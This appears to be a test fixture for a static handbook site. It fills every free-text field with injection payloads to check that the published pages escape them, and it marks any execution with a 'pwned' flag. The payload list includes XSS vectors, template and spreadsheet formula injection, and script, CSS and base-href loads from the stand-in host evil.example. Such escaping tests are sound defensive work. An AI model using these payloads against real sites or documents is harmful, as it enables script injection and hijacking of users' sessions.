// A published site in which every field that takes free text holds something hostile that the checks accept, built once like the small published site.
import { cpSync, existsSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { runChecks } from '../../../scripts/check.ts';
import { readContent, type Content, type Entry } from '../../../scripts/lib/read-content.ts';
import { release } from '../../../scripts/release.ts';
import { parseFile } from '../../../src/markdown/parse-file.ts';
import { mostRows } from '../../../src/model/lists.ts';
import { addGuide } from '../../published/support/history.ts';
import { builtSite, type BuiltSite } from '../../support/built-site.ts';
import { handbookRoot, TODAY } from '../../support/content-tree.ts';
import { makePictures, pageSources } from '../../support/published-site.ts';
import { withValue } from '../../support/sample-record.ts';
import { cases } from '../cases.ts';

/** What runs, if any of it does, leaves this name behind. */
export const TRACE = 'pwned';
/** What is asked for, if anything of it is. */
export const EVIL = 'evil.example';

const run = `globalThis.${TRACE}=1`;
export const payloads = [
  `"><img src=x onerror="${run}">`, `</script><script>${run}</script>`, `' onmouseover='${run}' onfocus='${run}' autofocus x='`, `=HYPERLINK("https://${EVIL}","x")`, `{{constructor.constructor("${run}")()}}`, `]]>--></title></style></textarea></template><script src=https://${EVIL}/x.js></script>`, `\\"; ${run}; //`, `""" . <https://${EVIL}/> a <x> . #`,
  `javascript:${run}`, `}, url = {https://${EVIL}}`, `<svg onload=${run}>`, "$& $1 $` $' $$", `&lt;img src=x onerror=${run}&gt;`, `+1+cmd|'/C calc'!A0`, `<iframe src="javascript:${run}">`, `@import url(https://${EVIL}/x.css);`, `-2+3`, `<base href="https://${EVIL}/">`,
];

type Path = (string | number)[];

function leavesOf(value: unknown, path: Path = []): Path[] {
  if (typeof value === 'string') return [path];
  return value !== null && typeof value === 'object' ? Object.entries(value).flatMap(([key, inner]) => leavesOf(inner, [...path, Array.isArray(value) ? Number(key) : key])) : [];
}

/** Accepted prose of the corpus, each piece in a paragraph of its own. */
const prose = cases.filter(({ outcome, name, files }) => outcome === 'harmless' && !name.includes(':') && !name.includes('bomb') && files['terms/pruefbegriff.mdx']).map(({ files }) => String(files['terms/pruefbegriff.mdx']).split('---\n')[2]!).filter((body) => !/\[\^|Source/.test(body)).join('\n');

/** Fills the fields of a profile, one after the other, and keeps what the checks take. */
function poison(content: Content, entry: Entry, next: () => string): { entry: Entry; count: number } {
  const write = (data: unknown, body: string) => (entry.collection === 'norms' ? `${JSON.stringify(data, null, 1)}\n` : `---\n${JSON.stringify(data, null, 1)}\n---\n${body}`);
  const others = content.entries.filter((one) => one !== entry);
  const accept = (data: unknown, body: string): Entry | undefined => {
    const text = write(data, body);
    const parsed = parseFile(entry.collection, text);
    if (parsed.problems.length > 0) return undefined;
    const changed: Entry = { ...entry, ...parsed, text };
    return runChecks({ ...content, entries: [...others, changed] }, TODAY).some(({ level }) => level === 'error') ? undefined : changed;
  };
  // Nobody has reviewed this.
  let data: unknown = { ...(entry.raw as object), review: { state: 'draft' } };
  let current = accept(data, entry.body) ?? entry;
  let count = 0;
  for (const path of leavesOf(data)) {
    if (path[0] === 'review') continue;
    // No two pages have the same title.
    const tried = withValue(data, path, path[0] === 'title' ? `${next()} ${entry.id}` : next());
    const accepted = accept(tried, current.body);
    if (!accepted) continue;
    [data, current, count] = [tried, accepted, count + 1];
  }
  return { entry: accept(data, `${current.body}\n${prose}`) ?? current, count };
}

/** Adds more rows than one page shows, on levels of frameworks with hostile names: their groups have pages of their own. */
function addLongLists(folder: string, { raw, body }: Entry): void {
  const data = raw as { title: Record<string, string>; editions: { levels: { framework: string; level: string }[] }[] };
  const levels = Array.from({ length: 32 }, (_, index) => ({ ...data.editions[0]!.levels[0]!, framework: payloads[index % payloads.length]!, level: String(index + 1) }));
  for (let row = 0; row * levels.length <= mostRows; row += 1) {
    const id = `aq-${9000 + row}`;
    const copy = { ...data, referenceCandidates: [], coverage: [], title: Object.fromEntries(Object.entries(data.title).map(([language, text]) => [language, `${text} ${id}`])), editions: [{ ...data.editions[0]!, levels }] };
    writeFileSync(join(folder, 'qualifications', 'aq', `${id}.mdx`), `---\n${JSON.stringify(copy, null, 1)}\n---\n${body}`);
  }
}

/** Makes the content tree in an empty folder; answers with the number of fields that hold something hostile. */
function makeHostileTree(folder: string): number {
  cpSync(join(handbookRoot, 'content'), folder, { recursive: true });
  // Translations must have the blocks of the German text.
  for (const name of readdirSync(folder, { recursive: true }).map(String)) if (name.endsWith('.en.mdx')) rmSync(join(folder, name));
  let turn = 0;
  let sum = 0;
  let content = readContent(folder, join(folder, '..'));
  for (const { file } of content.entries) {
    const before = content.entries.find((one) => one.file === file)!;
    const { entry, count } = poison(content, before, () => payloads[turn++ % payloads.length]!);
    sum += count;
    content = { ...content, entries: content.entries.map((one) => (one.file === file ? entry : one)) };
    writeFileSync(join(folder, file.slice(file.indexOf('/') + 1)), entry.text);
  }
  addLongLists(folder, content.entries.find(({ id }) => id === 'aq-0001')!);
  if (!existsSync(join(folder, 'guide'))) addGuide(folder);
  const said: string[] = [];
  if (release([], { content: folder, today: TODAY, print: (line) => said.push(line) }) !== 0) throw new Error(said.join('\n'));
  return sum;
}

export function hostileSite(): Promise<BuiltSite> {
  return builtSite({
    name: 'hostile-site',
    sources: [...pageSources, 'tests/fixtures/handbook', 'tests/hostile', 'tests/support', 'tests/published/support/history.ts'],
    make(place) {
      const count = makeHostileTree(join(place, 'content'));
      if (count < 120) throw new Error(`only ${count} fields hold something hostile`);
      makePictures(join(place, 'public'));
    },
  });
}
